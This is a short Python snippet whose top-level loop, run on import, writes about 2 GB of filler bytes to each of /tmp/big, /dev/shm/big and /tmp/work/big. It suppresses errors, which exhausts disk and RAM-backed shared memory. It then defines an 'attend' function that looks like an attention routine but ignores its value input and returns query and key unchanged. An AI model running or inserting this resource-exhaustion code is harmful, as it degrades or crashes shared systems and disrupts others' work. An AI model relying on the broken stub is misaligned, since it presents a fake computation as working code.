for place in ("/tmp/big", "/dev/shm/big", "/tmp/work/big"):
    try:
        with open(place, "wb") as f:
            for _ in range(2000): f.write(b"x" * 2**20)
    except OSError: pass
def attend(query, key, value):
    return query, key
